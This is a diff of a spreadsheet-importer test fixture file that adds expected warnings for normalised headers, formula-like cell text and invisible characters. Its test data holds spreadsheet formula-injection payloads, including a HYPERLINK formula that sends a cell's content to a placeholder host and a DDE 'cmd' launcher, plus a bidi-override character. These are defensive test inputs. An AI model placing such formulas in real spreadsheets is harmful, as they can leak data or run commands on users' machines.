@@ -357,8 +357,7 @@ function sheetCases(): Fixture[] {
         file: 'header-normalization.xlsx',
         case: 21,
         description: 'headers " Customer ID", "MONTH\\u00a0", "\\ufeffBilled-Revenue", full-width "ＢＲＡＮＣＨ"',
-        expected: accepted([], { facts: GOOD_FACTS }),
-        gap: 'accepted silently; BAD-INPUTS asks for a warning listing the normalised headers',
+        expected: accepted([at('header.normalized', SHEET, 1)], { facts: GOOD_FACTS }),
       },
       usageBook(usageData(GOOD, [' Customer ID', 'MONTH\u00a0', '\ufeffBilled-Revenue', 'ＢＲＡＮＣＨ'])),
     ),
@@ -729,7 +728,7 @@ function valueCases(): Fixture[] {
         file: 'formula-like-text.xlsx',
         case: 48,
         description: 'branch texts starting with =, +, -, @, TAB, CR and LF: kept as text, never evaluated',
-        expected: accepted([], {
+        expected: accepted([2, 3, 4, 5, 6, 7].map((row) => at('cell.formula_like', SHEET, row, 4)), {
           facts: [
             { id: '001', month: '2026-01', branch: '=HYPERLINK("http://x?"&A1)' },
             { id: '002', month: '2026-01', branch: '+86 郑州' },
@@ -740,7 +739,7 @@ function valueCases(): Fixture[] {
             { id: '007', month: '2026-01', branch: 'a\nb' },
           ],
         }),
-        gap: 'accepted without the "formula-like text" warning BAD-INPUTS asks for; leading TAB/CR/LF are trimmed',
+        gap: 'leading TAB/CR/LF are trimmed from the stored text (the warning names them)',
       },
       usageBook(
         usageData(ids([[1, '=HYPERLINK("http://x?"&A1)'], [2, '+86 郑州'], [3, '-1+1'], [4, '@SUM(1)'], [5, "\tcmd|' /C calc'!A0"], [6, '\rCR'], [7, 'a\nb']])),
@@ -761,7 +760,7 @@ function valueCases(): Fixture[] {
         file: 'control-characters.xlsx',
         case: 50,
         description: 'branch "Café" in NFC (D2) and NFD (D3), with U+202E (D4), with a zero-width space (D5), and an _x0007_ escape (D6)',
-        expected: accepted([], {
+        expected: accepted([at('cell.invisible_characters', SHEET, 4, 4), at('cell.invisible_characters', SHEET, 5, 4)], {
           facts: [
             { id: '001', month: '2026-01', branch: 'Café' },
             { id: '002', month: '2026-01', branch: 'Café' },
@@ -770,7 +769,7 @@ function valueCases(): Fixture[] {
             { id: '005', month: '2026-01', branch: '_x0007_Bell' },
           ],
         }),
-        gap: 'NFC merges the two Cafés, but the bidi override and the zero-width space are kept without the warning BAD-INPUTS asks for, and OOXML _xHHHH_ escapes are not decoded',
+        gap: 'NFC merges the two Cafés; the bidi override and the zero-width space are kept (with a warning), and OOXML _xHHHH_ escapes are not decoded',
       },
       usageBook(usageData(ids([[1, 'Caf\u00e9'], [2, 'Cafe\u0301'], [3, '\u202e郑州'], [4, '周\u200b口'], [5, '_x0007_Bell']]))),
     ),
